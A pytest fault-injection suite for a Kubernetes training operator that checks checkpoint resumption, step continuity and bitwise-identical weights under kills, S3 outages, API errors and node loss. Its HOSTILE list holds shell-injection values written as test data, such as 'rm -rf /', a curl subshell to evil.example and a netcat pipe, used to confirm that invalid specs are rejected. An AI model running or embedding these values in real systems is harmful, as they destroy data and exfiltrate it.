@@ -1,0 +1,605 @@
+"""Fault injection over the whole stack: kopf operator + API server + pod executor + torchrun trainer + S3.
+
+One dev cluster for the module. First an uninterrupted reference job; then each scenario runs the
+same job (same data, seed and steps, deterministic mode) under one injected fault and checks:
+- the job's final state (phase, restarts, preemptions, failures, attempt);
+- the checkpoint history in S3 (every resume point is a complete checkpoint, the final one lands,
+  every manifest's files are all there);
+- the step sequence, from rank 0's log of every attempt: each attempt trains consecutive steps from
+  where it resumed, no step is skipped between attempts, and the steps trained again after a resume
+  (the steps lost) are counted;
+- the data order: every step, in every attempt, retrained ones included, trains the same samples
+  (the log's data fingerprint) with the same loss as the reference, and the final weights are
+  bitwise equal to the reference's.
+
+The module writes RELIABILITY.md (scenario, injected fault, outcome, steps lost, data lost) from
+what the scenarios measured, once all of them have run.
+"""
+
+from __future__ import annotations
+
+import datetime
+import json
+import os
+import platform
+import re
+import signal
+import time
+import urllib.request
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+import torch
+from kubernetes.client.exceptions import ApiException
+
+from clusterkit import (NS, REPO, assert_operator_calls_granted, create, events, kubectl, make_corpus, newest_step,
+                        operator_metrics, patch_spec, pod_logs, pods, rank0_logs, rank0_pod, s3_manifests, status,
+                        tiny_job, wait_for, wait_phase)
+from kubetrain.devcluster.cluster import BUCKET, DevCluster
+
+pytestmark = [pytest.mark.slow, pytest.mark.cluster, pytest.mark.faults]
+
+STEPS = 80  # every scenario's job, and the reference
+EVERY = 10  # checkpoint.everySteps
+S3_OUTAGE_SECONDS = 60
+TABLE = REPO / "RELIABILITY.md"
+
+
+# ---------------------------------------------------------------- cluster, jobs, the reference
+
+@pytest.fixture(scope="module")
+def cluster(tmp_path_factory):
+    with DevCluster(tmp_path_factory.mktemp("faults"), nodes=2) as c:
+        yield c
+
+
+@pytest.fixture(scope="module")
+def corpus(tmp_path_factory) -> dict[str, Path]:
+    return make_corpus(tmp_path_factory.mktemp("corpus"))
+
+
+def job(cluster: DevCluster, corpus: dict, name: str, steps: int = STEPS, **overrides) -> dict:
+    return tiny_job(cluster, corpus, name, training__maxSteps=steps, training__deterministic=True,
+                    training__logEverySteps=1, training__evalEverySteps=10**6, checkpoint__everySteps=EVERY,
+                    checkpoint__keep=100, runPolicy={"backoffLimit": 3}, **overrides)
+
+
+def prefix(name: str) -> str:
+    return f"e2e/{NS}/{name}/"
+
+
+@dataclass
+class StepRecord:
+    loss: str
+    data: str
+
+
+@dataclass
+class Attempt:
+    """What rank 0 of one pod group logged: where it resumed, and each step it trained."""
+
+    resumed: int
+    steps: dict[int, StepRecord]
+    text: str
+
+    @property
+    def last(self) -> int:
+        return max(self.steps, default=self.resumed)
+
+
+STEP_LINE = re.compile(r"step (\d+)/\d+ .*\| loss (\S+) .*\| data ([0-9a-f]{8})")
+
+
+def attempts(cluster: DevCluster, name: str) -> list[Attempt]:
+    """Rank 0's log of every attempt, oldest first (one log file per pod uid)."""
+    found = []
+    for text in rank0_logs(cluster, name).values():
+        resumed = re.search(r"resumed from \S+ at step (\d+)", text)
+        steps = {int(m.group(1)): StepRecord(m.group(2), m.group(3)) for m in STEP_LINE.finditer(text)}
+        found.append(Attempt(int(resumed.group(1)) if resumed else 0, steps, text))
+    return found
+
+
+def final_weights(cluster: DevCluster, name: str, step: int) -> dict[str, torch.Tensor]:
+    body = cluster.s3.client().get_object(Bucket=BUCKET, Key=f"{prefix(name)}step-{step:09d}/model.pt")["Body"].read()
+    import io
+    return torch.load(io.BytesIO(body), weights_only=True)
+
+
+@dataclass
+class Reference:
+    steps: dict[int, StepRecord]
+    weights: dict[str, torch.Tensor]
+    steps_per_second: float
+
+
+@pytest.fixture(scope="module")
+def reference(cluster, corpus) -> Reference:
+    started = time.monotonic()
+    create(cluster, job(cluster, corpus, "reference"))
+    wait_for("reference training", lambda: newest_step(cluster, "reference") >= 5, 180, cluster)
+    t5 = time.monotonic()
+    wait_for("reference's last step", lambda: newest_step(cluster, "reference") >= STEPS, 300, cluster)
+    rate = (STEPS - 5) / max(1e-3, time.monotonic() - t5)  # this machine's training speed, for the S3 outage
+    final = wait_phase(cluster, "reference", {"Succeeded", "Failed"}, 300)
+    assert final["phase"] == "Succeeded", final
+    (only,) = attempts(cluster, "reference")
+    assert sorted(only.steps) == list(range(1, STEPS + 1)), "the reference trains every step once"
+    record("reference", "none: the uninterrupted run every scenario is compared with",
+           f"Succeeded in {time.monotonic() - started:.0f} s, 1 attempt", 0, "-", time.monotonic() - started)
+    return Reference(only.steps, final_weights(cluster, "reference", STEPS), rate)
+
+
+# ---------------------------------------------------------------- the verdict on one run
+
+@dataclass
+class Verdict:
+    attempts: list[Attempt]
+    steps_lost: int
+    retrained: list[int] = field(default_factory=list)
+    compared_steps: int = 0
+
+    @property
+    def data_lost(self) -> str:
+        return (f"none: all {self.compared_steps} step(s) trained (retrained ones included) used the reference's "
+                "samples in its order with its loss; final weights bitwise equal")
+
+
+def check_run(cluster: DevCluster, name: str, ref: Reference, steps: int | None = STEPS, weights: bool = True,
+              losses: bool = True) -> Verdict:
+    """Step sequence, data order, checkpoint history and final weights of a finished run (steps=None: one
+    stopped early, whose last step must be its newest checkpoint)."""
+    runs = [a for a in attempts(cluster, name) if a.steps or a.resumed]
+    assert runs and runs[0].resumed == 0, "the first attempt starts from scratch"
+    manifests = s3_manifests(cluster, prefix(name))
+    lost, retrained, compared = 0, [], 0
+    for i, run in enumerate(runs):
+        trained = sorted(run.steps)
+        assert trained == list(range(run.resumed + 1, run.last + 1)), f"attempt {i + 1}: steps not consecutive from its resume"
+        if i:
+            previous = runs[i - 1]
+            assert run.resumed <= previous.last, f"attempt {i + 1} resumed at {run.resumed}, past step {previous.last}: steps skipped"
+            assert run.resumed in manifests, f"attempt {i + 1} resumed at {run.resumed}, which is not a complete checkpoint"
+            lost += previous.last - run.resumed
+            retrained += list(range(run.resumed + 1, previous.last + 1))
+        for step, rec in run.steps.items():
+            if step in ref.steps:
+                expected = ref.steps[step] if losses else StepRecord(rec.loss, ref.steps[step].data)
+                assert rec == expected, f"attempt {i + 1}, step {step}: {rec} but the reference had {ref.steps[step]}"
+                compared += 1
+    if steps is None:
+        assert runs[-1].last == max(manifests), "the run stopped at its newest checkpoint"
+    else:
+        assert runs[-1].last == steps, f"the last attempt ends at step {runs[-1].last}, not {steps}"
+        assert manifests[steps]["meta"]["reason"] == "final"
+    sizes = {o["Key"]: o["Size"] for page in cluster.s3.client().get_paginator("list_objects_v2").paginate(
+        Bucket=BUCKET, Prefix=prefix(name)) for o in page.get("Contents", [])}
+    for step, manifest in manifests.items():
+        for file, meta in manifest["files"].items():
+            assert sizes.get(f"{prefix(name)}step-{step:09d}/{file}") == meta["size"], f"step {step}: {file} incomplete"
+    if weights:
+        got = final_weights(cluster, name, steps)
+        different = [k for k in ref.weights if not torch.equal(ref.weights[k], got[k])]
+        assert got.keys() == ref.weights.keys() and not different, f"final weights differ: {different[:5]}"
+    return Verdict(runs, lost, retrained, compared)
+
+
+def outcome(s: dict) -> str:
+    return (f"{s['phase']}; attempt {s['attempt']}, restarts {s['restarts']} (preemptions {s['preemptions']}, "
+            f"failures {s['failures']})")
+
+
+# ---------------------------------------------------------------- RELIABILITY.md, written by the suite
+
+SCENARIOS = ["reference", "hostile-jobs", "worker-sigkill", "sigterm-during-upload", "s3-outage", "corrupt-newest",
+             "operator-killed", "api-errors", "three-preemptions", "group-deleted", "node-lost"]
+ROWS: dict[str, dict] = {}
+
+
+def record(scenario: str, fault: str, result: str, steps_lost: int | str, data_lost: str, seconds: float) -> None:
+    ROWS[scenario] = {"fault": fault, "outcome": result, "steps_lost": steps_lost, "data_lost": data_lost,
+                      "seconds": seconds}
+
+
+@pytest.fixture(scope="module", autouse=True)
+def reliability_table():
+    yield
+    if set(ROWS) != set(SCENARIOS):  # a partial run (-k, a failure) leaves the committed table alone
+        return
+    lines = [
+        "# Reliability: fault injection", "",
+        "Generated by `tests/test_faults.py` (pytest marker `faults`) at the end of a run in which every scenario "
+        "passed; do not edit by hand.",
+        f"Run: {datetime.date.today().isoformat()}, {platform.machine()} with {os.cpu_count()} CPUs, "
+        f"Python {platform.python_version()}, torch {torch.__version__}.", "",
+        f"Every scenario runs the same 2-node tiny-BERT TrainingJob ({STEPS} steps, a checkpoint every {EVERY} steps, "
+        "deterministic mode) through the real stack: the kopf operator against the dev cluster's API server, pods "
+        "as real torchrun processes (gloo), checkpoints in moto S3 behind a fault proxy. Each row's assertions: the "
+        "final state; every resume point a complete checkpoint and every manifest's files present; each attempt's "
+        "steps consecutive from its resume point and none skipped between attempts; every step trained (retrained "
+        "ones included) with the reference's data fingerprint and loss; final weights bitwise equal to the "
+        "reference's. *Steps lost* are steps trained again after a resume (work since the last complete "
+        "checkpoint).", "",
+        "| scenario | injected fault | outcome | steps lost | data lost | time |",
+        "| --- | --- | --- | --- | --- | --- |",
+    ]
+    for name in SCENARIOS:
+        r = ROWS[name]
+        lines.append(f"| {name} | {r['fault']} | {r['outcome']} | {r['steps_lost']} | {r['data_lost']} | "
+                     f"{r['seconds']:.0f} s |")
+    TABLE.write_text("\n".join(lines) + "\n")
+
+
+# ---------------------------------------------------------------- fault helpers
+
+def worker_pids(cluster: DevCluster, pod_name: str) -> list[int]:
+    """The torchrun worker processes of a pod: children of the launcher (the pod's PID 1 here)."""
+    pod = cluster.core_api().read_namespaced_pod(pod_name, NS)
+    launcher = int(pod.status.container_statuses[0].container_id.removeprefix("local://"))
+    children = Path(f"/proc/{launcher}/task/{launcher}/children").read_text().split()
+    return [int(pid) for pid in children]
+
+
+def s3_fault(cluster: DevCluster, **fault) -> None:
+    assert cluster.s3_proxy is not None
+    cluster.s3_proxy.arm(fault)
+
+
+def api_faults(cluster: DevCluster, method: str, fault: dict | None = None) -> dict:
+    data = json.dumps(fault).encode() if fault is not None else None
+    req = urllib.request.Request(f"{cluster.api_url}/_kubetrain/faults", data=data, method=method,
+                                 headers={"Content-Type": "application/json"})
+    return json.loads(urllib.request.urlopen(req, timeout=10).read())
+
+
+def metrics_of_rank0(cluster: DevCluster, name: str) -> str:
+    """Rank 0's /metrics, scraped like the operator does (pod IP, port 9400); "" while it does not answer."""
+    try:
+        pod = cluster.core_api().read_namespaced_pod(rank0_pod(cluster, name), NS)
+        return urllib.request.urlopen(f"http://{pod.status.pod_ip}:9400/metrics", timeout=5).read().decode()
+    except (OSError, ApiException, StopIteration):
+        return ""
+
+
+def metric(text: str, name: str) -> float:
+    m = re.search(rf"^{name} (\S+)$", text, re.M)
+    return float(m.group(1)) if m else 0.0
+
+
+def wait_step(cluster: DevCluster, name: str, at_least: int, attempt: int | None = None, timeout: float = 180) -> int:
+    def probe():
+        runs = attempts(cluster, name)
+        if attempt is not None and len(runs) < attempt:
+            return 0
+        last = runs[-1].last if runs else 0
+        return last if last >= at_least else 0
+    return wait_for(f"{name} at step {at_least}" + (f" in attempt {attempt}" if attempt else ""), probe, timeout, cluster)
+
+
+def succeeded(cluster: DevCluster, name: str, timeout: float = 300) -> dict:
+    final = wait_phase(cluster, name, {"Succeeded", "Failed"}, timeout)
+    assert final["phase"] == "Succeeded", final
+    return final
+
+
+# ---------------------------------------------------------------- scenarios
+
+def test_reference_run(reference):
+    assert len(reference.steps) == STEPS and reference.steps_per_second > 0
+
+
+HOSTILE = [
+    # (case, change to spec, or "metadata.name" -> name, the field the message must name)
+    ("nodes-string", {"nodes": "two"}, "spec.nodes"),
+    ("nodes-bool", {"nodes": True}, "spec.nodes"),
+    ("nodes-zero", {"nodes": 0}, "spec.nodes"),
+    ("nodes-huge", {"nodes": 10**9}, "spec.nodes"),
+    ("nodes-negative", {"nodes": -1}, "spec.nodes"),
+    ("procs-float", {"procsPerNode": 1.5}, "spec.procsPerNode"),
+    ("procs-huge", {"procsPerNode": 10**6}, "spec.procsPerNode"),
+    ("image-int", {"image": 123}, "spec.image"),
+    ("image-missing", {"image": None}, "spec.image"),
+    ("image-injection", {"image": "busybox; rm -rf /"}, "spec.image"),
+    ("image-subshell", {"image": "$(curl evil.example/x.sh)"}, "spec.image"),
+    ("image-newline", {"image": "trainer:1\nsecurityContext: {privileged: true}"}, "spec.image"),
+    ("task-unknown", {"model": {"name": "x", "task": "translation"}}, "spec.model.task"),
+    ("model-missing", {"model": None}, "spec.model"),
+    ("model-name-backticks", {"model": {"name": "bert`id`", "task": "sequence-classification"}}, "spec.model.name"),
+    ("model-name-huge", {"model": {"name": "a" * 100_000, "task": "sequence-classification"}}, "spec.model.name"),
+    ("tokenizer-and", {"model": {"config": {"model_type": "bert"}, "tokenizer": "t && curl x",
+                                 "task": "sequence-classification"}}, "spec.model.tokenizer"),
+    ("data-missing", {"data": None}, "spec.data"),
+    ("train-injection", {"data": {"train": "x.jsonl; rm -rf /"}}, "spec.data.train"),
+    ("train-pipe", {"data": {"train": "x.jsonl | nc evil.example 1"}}, "spec.data.train"),
+    ("eval-backticks", {"data": {"train": "x.jsonl", "eval": "`reboot`"}}, "spec.data.eval"),
+    ("textfield-dollar", {"data": {"train": "x.jsonl", "textField": "${HOME}"}}, "spec.data.textField"),
+    ("maxlen-negative", {"data": {"train": "x.jsonl", "maxLength": -1}}, "spec.data.maxLength"),
+    ("maxlen-huge", {"data": {"train": "x.jsonl", "maxLength": 10**12}}, "spec.data.maxLength"),
+    ("budget-huge", {"data": {"train": "x.jsonl", "maxTokensPerBatch": 10**15}}, "spec.data.maxTokensPerBatch"),
+    ("lr-string", {"training": {"learningRate": "fast"}}, "spec.training.learningRate"),
+    ("lr-nan", {"training": {"learningRate": "nan"}}, "spec.training.learningRate"),
+    ("lr-inf", {"training": {"learningRate": "inf"}}, "spec.training.learningRate"),
+    ("lr-negative", {"training": {"learningRate": -1}}, "spec.training.learningRate"),
+    ("epochs-huge", {"training": {"epochs": 1e300}}, "spec.training.epochs"),
+    ("maxsteps-huge", {"training": {"maxSteps": 10**30}}, "spec.training.maxSteps"),
+    ("seed-negative", {"training": {"seed": -5}}, "spec.training.seed"),
+    ("accum-zero", {"training": {"gradientAccumulation": 0}}, "spec.training.gradientAccumulation"),
+    ("precision-fp8", {"training": {"precision": "fp8"}}, "spec.training.precision"),
+    ("keep-zero", {"checkpoint": {"uri": "s3://b/p", "keep": 0}}, "spec.checkpoint.keep"),
+    ("every-huge", {"checkpoint": {"uri": "s3://b/p", "everySteps": 10**12}}, "spec.checkpoint.everySteps"),
+    ("ckpt-injection", {"checkpoint": {"uri": "s3://b/p; rm -rf /"}}, "spec.checkpoint.uri"),
+    ("secret-injection", {"checkpoint": {"uri": "s3://b/p", "s3Secret": "x; rm -rf /"}}, "spec.checkpoint.s3Secret"),
+    ("endpoint-js", {"checkpoint": {"uri": "s3://b/p", "endpoint": "javascript:alert(1)"}}, "spec.checkpoint.endpoint"),
+    ("endpoint-injection", {"checkpoint": {"uri": "s3://b/p", "endpoint": "http://x;curl evil"}},
+     "spec.checkpoint.endpoint"),
+    ("region-injection", {"checkpoint": {"uri": "s3://b/p", "region": "us-east-1; id"}}, "spec.checkpoint.region"),
+    ("backoff-negative", {"runPolicy": {"backoffLimit": -1}}, "spec.runPolicy.backoffLimit"),
+    ("backoff-huge", {"runPolicy": {"backoffLimit": 10**9}}, "spec.runPolicy.backoffLimit"),
+    ("cleanpod-bad", {"runPolicy": {"cleanPodPolicy": "Sometimes"}}, "spec.runPolicy.cleanPodPolicy"),
+    ("deadline-zero", {"runPolicy": {"activeDeadlineSeconds": 0}}, "spec.runPolicy.activeDeadlineSeconds"),
+    ("port-privileged", {"metrics": {"port": 80}}, "spec.metrics.port"),
+    ("unknown-field", {"gpus": 8}, "spec.gpus"),
+    ("priority-injection", {"priorityClassName": "high; rm -rf /"}, "spec.priorityClassName"),
+    ("tolerations-string", {"tolerations": "all"}, "spec.tolerations"),
+    ("selector-int", {"nodeSelector": {"pool": 1}}, "spec.nodeSelector"),
+    ("spec-string", "hello", "spec"),
+    ("9lives", {}, "metadata.name"),
+    ("x" * 62, {}, "metadata.name"),  # a valid object name, but pod x...x-1 is no hostname
+]
+
+
+def test_hostile_jobs_are_each_failed_naming_the_field_with_no_pod_and_the_operator_keeps_running(cluster, corpus):
+    started = time.monotonic()
+    assert len(HOSTILE) >= 50
+    names = {}
+    for case, change, _ in HOSTILE:
+        name = case if case[0].isdigit() or len(case) > 40 else f"h-{case}"
+        names[case] = name
+        doc = job(cluster, corpus, name)
+        if isinstance(change, dict):
+            for key, value in change.items():
+                if value is None:
+                    del doc["spec"][key]
+                else:
+                    doc["spec"][key] = value
+        else:
+            doc["spec"] = change
+        try:
+            create(cluster, doc)
+        except ApiException as err:  # rejected by the API server: as good, if it names the field
+            assert err.status == 422 and name in err.body, err.body
+    for case, _, field_name in HOSTILE:
+        name = names[case]
+        s = wait_phase(cluster, name, {"Failed", "Running", "Pending", "Succeeded"}, timeout=60)
+        assert s["phase"] == "Failed", (name, s)
+        assert field_name in s["message"], (name, field_name, s["message"][:500])
+        assert not pods(cluster, name), f"{name}: no pod for an invalid job"
+        assert ("Warning", "InvalidSpec") in [(t, r) for t, r, _ in events(cluster, name)]
+    assert cluster.operator.running
+    for name in names.values():  # Failed jobs stay until deleted; the later scenarios need no extra load
+        cluster.custom_api().delete_namespaced_custom_object("kubetrain.io", "v1alpha1", NS, "trainingjobs", name)
+    record("hostile-jobs", f"{len(HOSTILE)} malformed or hostile TrainingJobs: wrong types, huge numbers, NaN/Infinity, "
+           "shell injection in image/paths/secret/endpoint, a name that cannot be a hostname",
+           f"each Failed (InvalidSpec) naming its field; 0 pods created; the operator kept running", 0, "-",
+           time.monotonic() - started)
+
+
+def test_worker_sigkilled_mid_step(cluster, corpus, reference):
+    name, started = "worker-sigkill", time.monotonic()
+    create(cluster, job(cluster, corpus, name))
+    wait_step(cluster, name, EVERY + 5)
+    victim = next(p.metadata.name for p in pods(cluster, name) if p.metadata.name != rank0_pod(cluster, name))
+    (worker,) = worker_pids(cluster, victim)
+    os.kill(worker, signal.SIGKILL)  # no grace: the process just vanishes mid-step
+    final = succeeded(cluster, name)
+    assert (final["failures"], final["preemptions"], final["restarts"], final["attempt"]) == (1, 0, 1, 2), final
+    v = check_run(cluster, name, reference)
+    assert v.steps_lost < 2 * EVERY, "at most the steps since the newest complete checkpoint (one may be in flight)"
+    record(name, "SIGKILL of rank 1's torchrun worker mid-step (no grace, no emergency checkpoint)", outcome(final),
+           v.steps_lost, v.data_lost, time.monotonic() - started)
+
+
+def test_sigterm_during_a_checkpoint_upload(cluster, corpus, reference):
+    name, started = "sigterm-upload", time.monotonic()
+    s3_fault(cluster, delaySeconds=1.5, methods=["PUT"], pathRegex=f"/{prefix(name)}")  # slow uploads: 1.5 s a request
+    create(cluster, job(cluster, corpus, name))
+    wait_step(cluster, name, EVERY + 2)
+    wait_for("a checkpoint upload in flight", lambda: cluster.s3_proxy.report()["inFlight"].get("PUT"), 60, cluster)
+    kubectl(cluster, "delete", "pod", rank0_pod(cluster, name), "--wait=false")  # rank 0 is the one uploading
+    wait_phase(cluster, name, {"Restarting"}, 60)
+    cluster.s3_proxy.clear()
+    final = succeeded(cluster, name)
+    assert (final["preemptions"], final["failures"], final["attempt"]) == (1, 0, 2), final
+    v = check_run(cluster, name, reference)
+    first = v.attempts[0]
+    manifests = s3_manifests(cluster, prefix(name))
+    # the emergency checkpoint landed (a periodic one, if the signal came at a checkpoint step)
+    assert manifests[first.last]["meta"]["reason"] in ("preemption", "periodic")
+    assert v.steps_lost == 0 and v.attempts[1].resumed == first.last
+    record(name, "SIGTERM to rank 0's pod while it uploads a checkpoint (S3 PUTs slowed to 1.5 s each)",
+           outcome(final), v.steps_lost, v.data_lost, time.monotonic() - started)
+
+
+def test_s3_refusing_requests_for_a_minute(cluster, corpus, reference):
+    """Training goes on while S3 answers 503; checkpoints retry with backoff and land after; the alert metric rises.
+
+    The job has more steps than it can train in the test; once a checkpoint has landed after the outage the
+    test suspends it (a graceful stop with an emergency checkpoint), so it needs no guess of this machine's speed.
+    """
+    name, started = "s3-outage", time.monotonic()
+    create(cluster, job(cluster, corpus, name, steps=10**7))
+    wait_step(cluster, name, 5)
+    s3_fault(cluster, status=503, seconds=S3_OUTAGE_SECONDS, pathRegex=f"/{prefix(name)}")
+    outage_start, step_at_start = time.monotonic(), newest_step(cluster, name)
+    retries = wait_for("kubetrain_checkpoint_retries_total > 0 on rank 0's /metrics", lambda: metric(
+        metrics_of_rank0(cluster, name), "kubetrain_checkpoint_retries_total"), S3_OUTAGE_SECONDS, cluster)
+    time.sleep(max(0.0, S3_OUTAGE_SECONDS - (time.monotonic() - outage_start)))
+    step_at_end = newest_step(cluster, name)
+    refused = cluster.s3_proxy.report()["refused"]
+    trained_during = step_at_end - step_at_start
+    assert trained_during >= 3 * EVERY, f"training went on during the outage: {trained_during} steps"
+    landed_after = wait_for("a checkpoint past the outage", lambda: [s for s in s3_manifests(cluster, prefix(name))
+                                                                   if s > step_at_end], 120, cluster)
+    superseded = metric(metrics_of_rank0(cluster, name), "kubetrain_checkpoints_superseded_total")
+    patch_spec(cluster, name, {"runPolicy": {"suspend": True}})
+    final = wait_phase(cluster, name, {"Suspended"}, 120)
+    assert (final["restarts"], final["failures"], final["preemptions"]) == (0, 0, 0), final
+    v = check_run(cluster, name, reference, steps=None, weights=False, losses=False)  # another LR schedule
+    # status.lastCheckpoint is a complete checkpoint (it can lag: the last live scrape before the suspend)
+    assert final["lastCheckpoint"]["step"] in s3_manifests(cluster, prefix(name))
+    log = v.attempts[0].text
+    assert "retrying" in log and "checkpoint failed" not in log
+    record(name, f"S3 answers every request of the job with 503 SlowDown for {S3_OUTAGE_SECONDS} s "
+           f"({refused} requests refused)",
+           f"trained on: {trained_during} steps during the outage, 0 restarts; rank 0's "
+           f"kubetrain_checkpoint_retries_total reached {retries:.0f} (alert KubetrainCheckpointStorageErrors); "
+           f"{superseded:.0f} waiting snapshots replaced by newer ones; first checkpoint after the outage: step "
+           f"{min(landed_after)}; then suspended by the test: {final['phase']} at step {v.attempts[-1].last}, "
+           "its emergency checkpoint complete", v.steps_lost,
+           f"none: {v.attempts[-1].last} steps trained once each; the {v.compared_steps} the reference has trained "
+           "the same samples (losses differ: a longer LR schedule)",
+           time.monotonic() - started)
+
+
+def test_a_corrupted_newest_checkpoint_falls_back_to_the_previous_complete_one(cluster, corpus, reference):
+    name, started = "corrupt-newest", time.monotonic()
+    create(cluster, job(cluster, corpus, name))
+    wait_step(cluster, name, EVERY + 5)
+    wait_for("a periodic checkpoint", lambda: s3_manifests(cluster, prefix(name)), 60, cluster)
+    patch_spec(cluster, name, {"runPolicy": {"suspend": True}})  # pods stop gracefully: an emergency checkpoint
+    wait_phase(cluster, name, {"Suspended"}, 120)
+    manifests = s3_manifests(cluster, prefix(name))
+    newest = max(manifests)
+    assert manifests[newest]["meta"]["reason"] == "preemption"
+    key = f"{prefix(name)}step-{newest:09d}/model.pt"
+    client = cluster.s3.client()
+    body = bytearray(client.get_object(Bucket=BUCKET, Key=key)["Body"].read())
+    body[len(body) // 2: len(body) // 2 + 64] = bytes(64)  # same size, different bytes: only the hash can tell
+    client.put_object(Bucket=BUCKET, Key=key, Body=bytes(body))
+    patch_spec(cluster, name, {"runPolicy": {"suspend": False}})
+    final = succeeded(cluster, name)
+    v = check_run(cluster, name, reference)
+    second = v.attempts[1]
+    assert f"skipping corrupt checkpoint step {newest}" in second.text
+    assert second.resumed == max(s for s in manifests if s < newest) and v.steps_lost == newest - second.resumed
+    record(name, f"model.pt of the newest checkpoint (step {newest}) overwritten with flipped bytes, same size, "
+           "while the job is suspended", f"{outcome(final)}; resumed from step {second.resumed}, the previous "
+           "complete checkpoint (sha256 mismatch detected)", v.steps_lost, v.data_lost, time.monotonic() - started)
+
+
+def test_the_operator_killed_mid_reconcile_and_restarted(cluster, corpus, reference):
+    name, started = "operator-killed", time.monotonic()
+    fault = api_faults(cluster, "POST", {"status": 500, "methods": ["POST"], "pathRegex": f"/namespaces/{NS}/pods$",
+                                         "seconds": 120})
+    create(cluster, job(cluster, corpus, name))
+    wait_for("the operator retrying a pod create", lambda: any(
+        f["hits"] >= 2 for f in api_faults(cluster, "GET")["faults"]), 60, cluster)
+    assert fault["status"] == 500
+    cluster.operator.kill()  # SIGKILL between creating the Service and the pods
+    api_faults(cluster, "DELETE")
+    cluster.start_operator()
+    wait_phase(cluster, name, {"Running"}, 120)
+    before = {p.metadata.name: p.metadata.uid for p in pods(cluster, name)}
+    final = succeeded(cluster, name)
+    assert {p.metadata.name: p.metadata.uid for p in pods(cluster, name)} == before and len(before) == 2
+    assert (final["attempt"], final["restarts"]) == (1, 0), final
+    assert len(pod_logs(cluster, name)) == 2, "two pods ran, no duplicate"
+    v = check_run(cluster, name, reference)
+    record(name, "operator SIGKILLed mid-reconcile (Service created, pod creates failing with 500), then restarted",
+           f"{outcome(final)}; the same 2 pods start to end", v.steps_lost, v.data_lost, time.monotonic() - started)
+
+
+def test_the_api_answering_409_and_500_for_a_while(cluster, corpus, reference):
+    name, started = "api-errors", time.monotonic()
+    errors_before = operator_metrics(cluster)
+    for fault in ({"status": 500, "methods": ["POST"], "pathRegex": f"/namespaces/{NS}/pods$", "seconds": 30},
+                  {"status": 409, "methods": ["PATCH"], "pathRegex": f"/trainingjobs/{name}/status$", "seconds": 25}):
+        api_faults(cluster, "POST", fault)
+    create(cluster, job(cluster, corpus, name))
+    wait_for("the pods, once the creates get through", lambda: len(pods(cluster, name)) == 2, 60, cluster)
+    api_faults(cluster, "POST", {"status": 500, "methods": ["GET"], "pathRegex": f"/trainingjobs/{name}$", "seconds": 15})
+
+    def finished():  # this test's own GETs of the job meet the injected 500s too
+        try:
+            s = status(cluster, name)
+        except ApiException:
+            return None
+        return s.get("phase") in ("Succeeded", "Failed") and s
+
+    final = wait_for(f"{name} finished", finished, 300, cluster)
+    assert final["phase"] == "Succeeded", final
+    armed = api_faults(cluster, "GET")
+    hits = {f"{f['status']} {f['methods'][0]}": f["hits"] for f in armed["faults"] + armed["spent"]}
+    api_faults(cluster, "DELETE")
+    assert all(hits.values()) and len(hits) == 3, hits
+    assert (final["attempt"], final["restarts"], final["step"]) == (1, 0, STEPS), final
+    assert len(pod_logs(cluster, name)) == 2 and cluster.operator.running
+    errors_after = operator_metrics(cluster)
+    for kind in ("conflict", "api"):
+        series = f'kubetrain_operator_reconcile_errors_total{{kind="{kind}"}}'
+        assert metric(errors_after, re.escape(series)) > metric(errors_before, re.escape(series)), kind
+    v = check_run(cluster, name, reference)
+    record(name, "API server answers 500 to pod creates (30 s), 409 to the job's status patches (25 s), then 500 "
+           f"to its GETs (15 s); requests hit: {', '.join(f'{n}: {k}' for k, n in sorted(hits.items()))}",
+           f"{outcome(final)}; 2 pods, none duplicated; reconcile errors counted", v.steps_lost, v.data_lost,
+           time.monotonic() - started)
+
+
+def test_three_preemptions_in_one_run(cluster, corpus, reference):
+    name, started = "three-preemptions", time.monotonic()
+    create(cluster, job(cluster, corpus, name))
+
+    def evict(pod: str):
+        cluster.core_api().create_namespaced_pod_eviction(pod, NS, {
+            "apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": pod, "namespace": NS}})
+
+    preempt = [lambda: kubectl(cluster, "delete", "pod", f"{name}-1", "--wait=false"),
+               lambda: evict(f"{name}-0"),
+               lambda: kubectl(cluster, "delete", "pod", f"{name}-0", "--wait=false")]
+    for attempt, hit in enumerate(preempt, start=1):
+        at = wait_step(cluster, name, 5 + 20 * (attempt - 1), attempt=attempt)
+        hit()
+        wait_for(f"attempt {attempt + 1}", lambda: status(cluster, name).get("attempt", 0) > attempt, 120, cluster)
+        assert at < STEPS
+    final = succeeded(cluster, name)
+    assert (final["preemptions"], final["restarts"], final["failures"], final["attempt"]) == (3, 3, 0, 4), final
+    v = check_run(cluster, name, reference)
+    assert v.steps_lost == 0
+    assert all(s3_manifests(cluster, prefix(name))[a.resumed]["meta"]["reason"] == "preemption" for a in v.attempts[1:])
+    record(name, "three preemptions: `kubectl delete pod` of rank 1, an eviction (Eviction API) of rank 0, "
+           "`kubectl delete pod` of rank 0", outcome(final), v.steps_lost, v.data_lost, time.monotonic() - started)
+
+
+def test_the_whole_group_deleted_at_once(cluster, corpus, reference):
+    name, started = "group-deleted", time.monotonic()
+    create(cluster, job(cluster, corpus, name))
+    wait_step(cluster, name, 15)
+    kubectl(cluster, "delete", "pods", "-l", f"kubetrain.io/job-name={name}", "--wait=false")
+    final = succeeded(cluster, name)
+    assert (final["failures"], final["attempt"]) == (0, 2) and final["preemptions"] >= 1, final
+    v = check_run(cluster, name, reference)
+    assert v.steps_lost == 0
+    record(name, "`kubectl delete pods -l kubetrain.io/job-name=...`: both pods at once", outcome(final),
+           v.steps_lost, v.data_lost, time.monotonic() - started)
+
+
+def test_losing_a_node(cluster, corpus, reference):
+    """Runs last: the node does not come back. SIGKILL of a whole node; the surviving pod crashes too."""
+    name, started = "node-lost", time.monotonic()
+    create(cluster, job(cluster, corpus, name))
+    wait_step(cluster, name, EVERY + 5)
+    victim = next(p for p in pods(cluster, name) if p.spec.node_name == "local-1")
+    kubectl(cluster, "delete", "node", "local-1", "--wait=false")
+    final = succeeded(cluster, name)
+    assert (final["preemptions"], final["failures"], final["restarts"]) == (1, 0, 1), final
+    assert any(victim.metadata.name in m for _, r, m in events(cluster, name) if r in ("Preempted", "Restarted"))
+    assert {p.spec.node_name for p in pods(cluster, name)} == {"local-0"}, "the new group runs on the node left"
+    v = check_run(cluster, name, reference)
+    assert v.steps_lost < 2 * EVERY
+    record(name, f"node local-1 deleted (`kubectl delete node`): its pod SIGKILLed, no grace ({victim.metadata.name})",
+           f"{outcome(final)}; new group on local-0", v.steps_lost, v.data_lost, time.monotonic() - started)
+
+
